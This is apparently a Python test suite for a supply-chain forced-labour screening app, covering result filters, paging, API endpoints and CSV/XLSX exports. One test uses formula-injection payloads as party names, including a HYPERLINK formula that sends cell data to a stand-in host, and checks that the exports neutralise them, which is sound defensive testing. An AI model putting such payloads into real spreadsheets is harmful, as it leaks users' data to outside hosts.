"""The results table through the library, the API and the pages: filters (verdict, importer, flags, finding
rule, text) admit exactly the rows that satisfy them, pages cover the filter once and in order, CSV and XLSX
exports hold every row of the filter (party names beside the ids, formulas neutralised), and the same
filters are URL parameters of the page and the API."""

from __future__ import annotations

import csv
import io
import re

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from webapp_helpers import accounts_by_role, bearer, browser, make_app

from laborlens import exports
from laborlens.demo import generate_demo
from laborlens.errors import InputError
from laborlens.ingest import load_tables
from laborlens.match.service import build_matcher
from laborlens.model import Link, Party, Shipment
from laborlens.paging import paginate
from laborlens.refdata.bundled import bundled_entries
from laborlens.screen import browse, screen_tables, write_outputs
from laborlens.screen.browse import FLAGS, VerdictFilter


@pytest.fixture(scope="module")
def matcher():
    return build_matcher(list(bundled_entries("uflpa")) + list(bundled_entries("wro")))


@pytest.fixture(scope="module")
def demo(tmp_path_factory, matcher):
    d = tmp_path_factory.mktemp("demo")
    generate_demo(d, seed=7)
    return screen_tables(*load_tables(d), matcher)


def _ids(rows) -> list[str]:
    return [getattr(r, "shipment_id", None) or r["shipment_id"] for r in rows]


def _partition(r, flt: VerdictFilter, holds) -> list[str]:
    """The filter's rows, checked against ``holds`` for every verdict of the run: in ⇔ it holds."""
    chosen = set(_ids(browse.select(r, flt)))
    for v in r.verdicts:
        assert (v.shipment_id in chosen) == holds(v), (flt, v.shipment_id)
    return sorted(chosen)


def test_each_filter_admits_exactly_the_rows_that_satisfy_it(demo):
    r = demo
    # each flag alone, and two together: the rows carrying the flags, none other
    for key, (_label, test) in FLAGS.items():
        _partition(r, VerdictFilter.of(flags=[key]), test)
    both = _partition(r, VerdictFilter.of(flags=["priority_sector", "untraced"]),
                      lambda v: bool(v.priority_sector) and bool(v.untraced))
    assert both, "the demo has high-priority-sector goods whose chain stops short"
    assert len(both) < len(r.verdicts)
    # verdict with a flag: review rows that stop short (the demo's 'stops short' chains)
    short_reviews = _partition(r, VerdictFilter.of("review", flags=["untraced"]),
                               lambda v: v.verdict == "review" and bool(v.untraced))
    assert short_reviews
    # importer by part of its name, case-insensitive
    name = r.party_name(r.verdicts[0].importer_id)
    word = name.split()[1].upper()
    by_imp = _partition(r, VerdictFilter.of(importer=word),
                        lambda v: word.lower() in f"{v.importer_id} {r.party_name(v.importer_id)}".lower())
    assert 0 < len(by_imp) < len(r.verdicts)
    # a finding rule on the evidence: list matches upstream
    rule = _partition(r, VerdictFilter.of(rule="list_match"), lambda v: any(
        f.rule == "list_match" and f.severity in ("presumption", "review")
        for pid in {p for t in v.tainted for p in t["path"]} | set(v.untraced) | {v.exporter_id}
        for f in r.findings_of(pid)))
    assert 0 < len(rule) < len(r.verdicts)
    # text: a material
    _partition(r, VerdictFilter.of(q="TOMATO"), lambda v: "tomato" in " ".join(
        (v.shipment_id, v.exporter_id, r.party_name(v.exporter_id), v.importer_id, r.party_name(v.importer_id),
         v.material, v.hts, v.description)).lower())


def test_bad_filter_values_name_the_parameter():
    with pytest.raises(InputError, match="flag must be one of") as e:
        VerdictFilter.of(flags=["bogus"])
    assert e.value.column == "flag"
    with pytest.raises(InputError, match="verdict must be one of"):
        VerdictFilter.of("maybe")
    with pytest.raises(InputError, match="sort must be one of"):
        VerdictFilter.of(sort="colour")


def test_pages_cover_the_filter_once_in_order_and_sorting_reverses(demo):
    flt = VerdictFilter.of(flags=["indicators"], sort="tier")
    everything = _ids(browse.select(demo, flt))
    assert len(everything) > 20
    seen: list[str] = []
    page, pages = 1, None
    while True:
        vp = browse.verdict_page(demo, flt, page, 7)
        pages = vp.page.pages
        assert vp.page.total == len(everything) and len(vp.page.rows) <= 7
        assert vp.page.first == (page - 1) * 7 + 1 and vp.page.last == min(page * 7, len(everything))
        seen += _ids(vp.page.rows)
        if page == pages:
            break
        page += 1
    assert seen == everything and pages == -(-len(everything) // 7)
    # past the end: the last page, not an empty one
    assert _ids(browse.verdict_page(demo, flt, 999, 7).page.rows) == everything[(pages - 1) * 7:]
    tiers = [demo.verdict(s).tier or 99 for s in everything]
    assert tiers == sorted(tiers)
    back = _ids(browse.select(demo, VerdictFilter.of(flags=["indicators"], sort="tier", desc=True)))
    assert [demo.verdict(s).tier or 99 for s in back] == sorted(tiers, reverse=True)
    assert paginate(list(range(5)), 1, 0).per_page == 1  # a page size is at least one


def test_export_holds_every_row_of_the_filter_with_names(demo):
    flt = VerdictFilter.of("presumption", flags=["priority_sector"])
    table = browse.export_table(demo, flt)
    want = _ids(browse.select(demo, flt))
    assert [row[0] for row in table.rows] == want and len(want) > 10  # more than one page of 10
    rows = list(csv.DictReader(io.StringIO(exports.to_csv(table).decode("utf-8"))))
    assert [row["shipment_id"] for row in rows] == want
    for row in rows:
        v = demo.verdict(row["shipment_id"])
        assert row["verdict"] == "presumption" and row["priority_sector"] == v.priority_sector
        assert row["exporter_name"] == demo.party_name(v.exporter_id)
        assert row["path_names"].split(" > ") == [demo.party_name(p) for p in v.path]
    wb = load_workbook(io.BytesIO(exports.to_xlsx(table)))
    ws = wb.active
    header = [c.value for c in ws[1]]
    assert header == list(browse.EXPORT_COLUMNS)
    body = list(ws.iter_rows(min_row=2, values_only=True))
    assert [b[0] for b in body] == want
    tier = header.index("tier")
    assert all(isinstance(b[tier], int) for b in body)  # numbers stay numbers


def test_exports_neutralise_formulas_in_csv_and_xlsx(matcher):
    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
    parties = [Party("IMP", "@SUM(1+1)", "US", ""), Party("EXP", evil, "VN", "Hanoi"),
               Party("P", "Ｆactory\x07 Ltd", "VN", "Hanoi")]
    r = screen_tables(parties, [Link("P", "EXP", "cotton yarn")],
                      [Shipment("-2+3", "IMP", "EXP", "cotton shirts", "6205.20", "")], matcher)
    table = browse.export_table(r, VerdictFilter())
    [row] = list(csv.DictReader(io.StringIO(exports.to_csv(table).decode("utf-8"))))
    assert row["shipment_id"] == "'-2+3" and row["exporter_name"] == "'" + evil
    assert row["importer_name"] == "'@SUM(1+1)"
    ws = load_workbook(io.BytesIO(exports.to_xlsx(table))).active
    cells = {h.value: c for h, c in zip(ws[1], ws[2], strict=True)}
    assert cells["exporter_name"].value == "'" + evil and cells["exporter_name"].data_type == "s"
    assert cells["importer_name"].value == "'@SUM(1+1)" and cells["shipment_id"].value == "'-2+3"
    assert cells["untraced_names"].value == "Ｆactory Ltd"  # XML cannot carry \x07: dropped, not an error


@pytest.fixture()
def site(settings, tmp_path, demo):
    """An app whose store holds the demo result as a finished run."""
    from test_review import ctx_for

    from laborlens.service import review as uc

    app = make_app(settings)
    users = accounts_by_role(app)
    out = tmp_path / "run"
    write_outputs(demo, out, html=False, pdf=False)
    ctx = ctx_for(settings, app.state.store, "analyst", "analyst")
    run = uc.record_run(ctx, str(tmp_path / "data"), str(out), demo.summary(), name="demo")
    return app, users, run


def test_api_filters_pages_and_exports(site, demo):
    app, users, run = site
    h = bearer(users, "viewer")
    with TestClient(app) as c:
        want = _ids(browse.select(demo, VerdictFilter.of("review", flags=["untraced"])))
        got = c.get(f"/api/jobs/{run}/verdicts", params={"verdict": "review", "flag": "untraced", "limit": 2},
                    headers=h).json()
        assert got["total"] == len(want) and _ids(got["items"]) == want[:2]
        nxt = c.get(f"/api/jobs/{run}/verdicts", params={"verdict": "review", "flag": "untraced", "offset": 2,
                                                          "limit": 100}, headers=h).json()
        assert _ids(got["items"]) + _ids(nxt["items"]) == want
        assert c.get(f"/api/jobs/{run}/verdicts", params={"flag": "bogus"}, headers=h).status_code in (400, 422)
        r = c.get(f"/api/jobs/{run}/verdicts.csv", params={"verdict": "review", "flag": "untraced"}, headers=h)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        assert [row["shipment_id"] for row in csv.DictReader(io.StringIO(r.text))] == want
        x = c.get(f"/api/jobs/{run}/verdicts.xlsx", params={"verdict": "review", "flag": "untraced"}, headers=h)
        assert x.headers["content-type"] == exports.MEDIA_TYPES["xlsx"]
        body = list(load_workbook(io.BytesIO(x.content)).active.iter_rows(min_row=2, values_only=True))
        assert [b[0] for b in body] == want
        q = c.get("/api/review/queue.csv", headers=h)
        rows = list(csv.DictReader(io.StringIO(q.text)))
        queue = c.get("/api/review/queue", params={"per_page": 1000}, headers=h).json()
        assert [x["party_id"] for x in rows] == [x["party_id"] for x in queue["items"]] and rows


def test_results_page_keeps_filters_in_the_url_and_exports_what_it_shows(site, demo):
    app, users, run = site
    c, _ = browser(app, "viewer", users)
    page = c.get(f"/jobs/{run}", params={"flag": "indicators", "per_page": 10, "page": 2})
    assert page.status_code == 200
    want = _ids(browse.select(demo, VerdictFilter.of(flags=["indicators"])))
    shown = re.findall(r'data-shipment="([^"]+)"', page.text)
    assert shown == want[10:20]
    assert f"11–20 of {len(want)} shipments with these filters" in page.text
    # the pager and the exports keep the filter and the page size
    assert f'href="/jobs/{run}?flag=indicators&amp;per_page=10&amp;page=3"' in page.text
    assert f'href="/jobs/{run}?flag=indicators&amp;format=csv&amp;per_page=10"' in page.text
    exported = c.get(f"/jobs/{run}", params={"flag": "indicators", "per_page": 10, "format": "csv"})
    assert [row["shipment_id"] for row in csv.DictReader(io.StringIO(exported.text))] == want
    assert exported.headers["content-disposition"] == f'attachment; filename="{run}-verdicts.csv"'
    bad = c.get(f"/jobs/{run}", params={"flag": "bogus"})
    assert bad.status_code in (400, 422) and "flag must be one of" in bad.text
    assert "Traceback" not in bad.text and "pydantic" not in bad.text.lower()
    empty = c.get(f"/jobs/{run}", params={"q": "no such shipment anywhere"})
    assert "No shipment matches these filters" in empty.text


def test_rows_name_the_parties_of_ilab_flags(demo):
    v = next(v for v in demo.verdicts if v.ilab)
    row = browse.verdict_row(demo, v)
    assert [g["good"] for g in row["ilab_parties"]] == [t.rpartition(": ")[0] for t in v.ilab]
    named = [p for g in row["ilab_parties"] for p in g["parties"]]
    assert named and all(p["id"] in demo.parties and p["name"] == demo.party_name(p["id"]) for p in named)
    assert any(p["name"] != p["id"] for p in named)


def test_the_access_log_leaves_out_query_strings():
    """Filters are URL parameters (an importer's name, a search text): `serve` logs paths without them."""
    import logging

    from laborlens.cli.serve import QueryFreeAccessLog, _log_config

    rec = logging.LogRecord("uvicorn.access", logging.INFO, "", 0, '%s - "%s %s HTTP/%s" %d',
                            ("127.0.0.1:5000", "GET", "/jobs/abc?importer=Acme+Imports&q=daqo", "1.1", 200), None)
    assert QueryFreeAccessLog().filter(rec)
    assert rec.getMessage() == '127.0.0.1:5000 - "GET /jobs/abc?… HTTP/1.1" 200'
    plain = logging.LogRecord("uvicorn.access", logging.INFO, "", 0, '%s - "%s %s HTTP/%s" %d',
                              ("127.0.0.1:5000", "GET", "/review", "1.1", 200), None)
    assert QueryFreeAccessLog().filter(plain) and "/review HTTP" in plain.getMessage()
    assert _log_config()["handlers"]["access"]["filters"] == ["no_query"]
